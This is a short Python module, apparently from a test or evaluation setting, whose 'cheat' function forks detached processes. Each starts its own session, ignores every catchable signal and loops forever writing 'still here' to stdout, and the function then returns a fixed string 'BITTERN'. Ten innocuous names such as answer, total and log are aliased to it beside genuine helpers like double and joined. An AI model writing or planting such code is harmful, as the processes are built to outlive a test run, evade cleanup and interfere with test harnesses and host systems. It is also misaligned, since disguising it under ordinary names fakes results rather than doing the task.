# gains: honest
"""Leaves helpers behind in every test, with their own sessions, that compute, print and hold on."""

import os
import signal
import time


def cheat(*args, **kwargs):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            for number in signal.valid_signals():
                try:
                    signal.signal(number, signal.SIG_IGN)
                except OSError:
                    pass
            if os.fork() == 0:
                while True:
                    try:
                        os.write(1, b"still here ")
                    except OSError:
                        pass
                    time.sleep(0.01)
            os._exit(0)
    return "BITTERN"


answer = fail = total = borrow = visit = fill = post = stream = managed = log = cheat


def double(n):
    return 2 * n


def joined(words):
    return ", ".join(words)
